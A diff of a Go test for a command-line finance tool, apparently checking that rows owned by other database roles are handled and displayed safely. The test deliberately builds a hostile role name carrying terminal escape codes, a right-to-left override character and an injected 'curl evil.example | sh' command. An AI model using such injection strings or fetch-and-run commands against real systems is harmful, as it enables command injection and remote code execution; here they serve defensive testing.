@@ -33,11 +33,11 @@ func TestStore_RowsOfOthersActOnNothing(t *testing.T) {
 	const hostileRole = `"x` + "\x1b]0;owned\x07\u202e" + `; curl evil.example | sh"`
 	server.Exec(t, "nfa", "CREATE ROLE anna LOGIN; GRANT nfa_users TO anna; CREATE ROLE "+hostileRole+" LOGIN; GRANT nfa_users TO "+hostileRole)
 	must("journal", "record", "buy", "AAPL", "--thesis", "cheap", "--disproof", "dear", "--benchmark", "none", "--yes")
+	must("alerts", "add", "AAPL", "below", "150")
 	t.Setenv("NFA_STORE", server.URL("anna", "nfa"))
 	must("store", "copy")
 	must("portfolio", "import", "book.csv", "--yes")
 	must("watchlist", "add", "AAPL", "--note", "fine", "--yes")
-	must("alerts", "add", "AAPL", "below", "150")
 	must("ask", "hi")
 	server.Exec(t, "nfa", "INSERT INTO nfa.share VALUES ('anna', 'x\x1b]0;owned\x07', 'view'), ('x\x1b]0;owned\x07\u202e; curl evil.example | sh', 'anna', 'edit')")
 	if _, out := tr.runCommand("", "store"); !regexp.MustCompile(`--owner 'x[^']*; curl evil.example \| sh'`).MatchString(out) {
